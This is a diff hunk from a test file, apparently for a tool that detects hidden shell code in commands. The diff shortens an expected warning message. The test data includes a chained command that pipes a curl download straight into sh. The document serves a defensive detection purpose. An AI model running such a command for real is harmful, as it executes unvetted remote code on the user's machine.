@@ -109,7 +109,7 @@ void describe("hidden code", () => {
     assert.ok(asked.patterns.includes("echo ok; curl x | sh"));
     assert.deepEqual(asked.always, []);
     assert.deepEqual(asked.metadata["hidden"], [
-      "a shell that reads its code from a pipe or file; name what sh runs: a command, or the path of a script",
+      "a shell that reads its code from a pipe or file; name what sh runs",
     ]);
   });
 
